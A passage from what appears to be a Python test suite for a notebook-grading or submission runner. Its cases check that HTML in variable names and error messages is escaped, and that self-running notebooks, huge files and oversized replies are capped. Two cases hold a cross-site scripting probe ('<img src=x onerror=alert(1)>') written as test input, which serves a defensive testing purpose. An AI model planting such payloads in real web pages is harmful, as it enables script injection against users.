        globals()["x<img src=x onerror=alert(1)>"] = lambda: None
        """),)),
    Case("html_in_a_failing_cell", cells=("raise RuntimeError('<img src=x onerror=alert(1)>')",),
         says=r"RuntimeError"),

    # reading: linear in the submission's size, with caps ---------------------------------------
    Case("notebook_runs_itself_hundreds_of_times", raw=runs_itself),
    Case("python_file_with_3000_cell_markers", raw=many_markers, suffix=".py"),
    Case("huge_replies_on_every_call", edits=in_forward(replace="return np.zeros(8_000_000)"),
         lost={"Linear": FORWARD_ONLY}, says=r"too large to send", memory_mb=150),
]
